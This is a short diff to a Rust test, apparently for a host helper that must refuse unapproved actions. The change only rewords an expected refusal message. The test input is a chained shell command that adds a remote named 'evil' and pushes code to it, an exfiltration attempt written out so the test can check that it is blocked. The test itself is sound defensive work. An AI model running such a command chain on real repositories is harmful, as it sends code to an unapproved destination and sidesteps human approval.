@@ -72,7 +72,7 @@ fn nobody_asks_a_helper_for_what_was_not_approved_or_for_what_the_inside_names()
             &[],
             &format!("git remote add evil https://github.com/them/other.git; {PUSH}; pinfold-host git push evil change 2>&1"),
         );
-        said.has(&["nobody is there to be asked", "126\n", "no remote evil on the host"]);
+        said.has(&["no user can be asked", "126\n", "no remote evil on the host"]);
         assert!(!world.stage.path("home/asked").exists(), "{said:?}");
         assert_eq!(seen(&world, &[]), (0, 0), "{}", world.seen());
     }
